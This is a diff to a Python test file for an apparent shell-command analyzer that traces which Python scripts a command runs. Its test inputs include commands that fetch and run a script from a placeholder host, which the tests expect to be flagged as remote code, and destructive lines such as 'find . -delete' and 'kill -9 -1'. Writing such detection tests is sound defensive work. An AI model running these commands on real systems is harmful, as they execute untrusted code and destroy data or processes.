@@ -189,8 +189,55 @@ TEXTS = {
     "pip install torch": [],
     "python - <<'EOF'\nprint(\"$x\")\nEOF": ['code print("$x")'],
     "python -c 'import pkg' 3": ["code import pkg 3"],
-    "xargs -n1 python train.py < env.sh": ["!cannot-follow -n1|python|train.py"],
-    "find . -name '*.py' -exec python {} +": ["!cannot-follow"],
+    # programs that start others
+    "xargs -n1 python train.py < env.sh": [f"file train.py {word}" for word in ("export", "MODE=fast", "DATA=cora")],
+    "echo cora 3 | xargs -I{} python train.py --data {} -n 1": ["file train.py --data|cora 3|-n|1"],
+    "printf 'a b\\0c' | xargs -0 -n 1 -P 1 ./run.py --x": ["file run.py --x|a b", "file run.py --x|c"],
+    "echo 3 | xargs bash scripts/run.sh": [f"file train.py --gpu|3|--seed|{n}" for n in (1, 2)],
+    "find . -name eval.py -exec python {} +": ["file tools/eval.py"],
+    "find tools -name '*.py' -exec sh -c 'python \"$1\" --x' _ {} \\;": ["file tools/eval.py --x"],
+    "script -qec 'python train.py --x' /dev/null": ["file train.py --x"],
+    "parallel python train.py ::: 1 2": ["!cannot-follow python|train.py|:::|1|2"],
+    # what it calls itself
+    'cd "$(dirname "$0")"\npython train.py': ["file train.py"],
+    'set -euo pipefail\nD="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\npython "$D/train.py"': ["file train.py"],
+    'set -eu\ncd "$(dirname "$(readlink -f "$0")")/tools"\npython eval.py': ["tools: file tools/eval.py"],
+    # the program's path
+    "python ./train.py": ["file train.py"],
+    "python $PWD/tools/../train.py": ["file train.py"],
+    "cd tools; python ../tools/eval.py": ["tools: file tools/eval.py"],
+    "ln -s train.py t.py; python t.py": ["file train.py"],
+    "mkdir d; ln -s ../src d/s; python d/s/../train.py": ["file train.py"],
+    "ln -s tools t; cd t; python eval.py": ["tools: file tools/eval.py"],
+    "chmod +x plain.py; ./plain.py --a": ["file plain.py --a"],
+    # what a program before it may have written
+    "set -e; python train.py; cat out/log.txt; python tools/eval.py": ["file train.py", "file tools/eval.py"],
+    "set -e; cat out/log.txt; python tools/eval.py": [],
+    "python train.py; [ -f out/x ] || exit 1; python tools/eval.py": ["file train.py", "file tools/eval.py"],
+    "python train.py; if [[ ! -f out/x ]]; then exit 1; fi; python tools/eval.py": [
+        "file train.py",
+        "file tools/eval.py",
+    ],
+    "[ -f out/x ] || exit 1; python train.py": [],
+    "set -eo pipefail; python train.py | tee log | grep acc; python tools/eval.py": [
+        "file train.py",
+        "file tools/eval.py",
+    ],
+    # what a program prints
+    'R=$(python train.py); echo "$R"': ["file train.py"],
+    "[ $(python train.py) = 1 ] && python tools/eval.py": [
+        "!cannot-follow mlbench-output-of-python|=|1",
+        "file train.py",
+    ],
+    'eval "$(conda shell.bash hook)"; python train.py': ["file train.py"],
+    "$(python train.py)": ["!cannot-follow", "file train.py"],
+    "wget -q http://x/y/go.sh; bash go.sh > log": ["!remote-code"],
+    "X=`wget -qO- http://x/y`; eval $X": ["!remote-code"],
+    # environments
+    "set -e; python -m venv v && source v/bin/activate && pip install -r x; python train.py": ["file train.py"],
+    '. "v/bin/activate"; source env.sh; python train.py $DATA': ["MODE=fast file train.py cora"],
+    # a bound of its own
+    "ulimit -n 4096; ulimit -c 0; python train.py": ["file train.py"],
 }
 
 
@@ -280,7 +327,6 @@ def test_what_needs_bash_takes_no_shortcut(text: str) -> None:
     [
         ("while true; do python train.py; done", "cannot-follow"),
         ("while true; do :; done", "cannot-follow"),
-        ("X=$(python train.py); python tools/eval.py $X", "cannot-follow"),
         ("printf 'x' >&77; python train.py", "cannot-follow"),
         ("command_not_found_handle() { :; }; python train.py", "cannot-follow"),
         ("echo x > /proc/self/fd/77", "cannot-follow"),
@@ -345,7 +391,7 @@ def test_faults_are_not_seen_where_there_are_none(text: str) -> None:
         "find . -delete",
         "awk 'BEGIN{system(\"x\")}'",
         "trap x EXIT",
-        "ulimit -v 1",
+        "builtin ulimit -v 1",
         "python train.py (",
         ". <(echo kill -9 -1)",
         "builtin kill -9 -1",
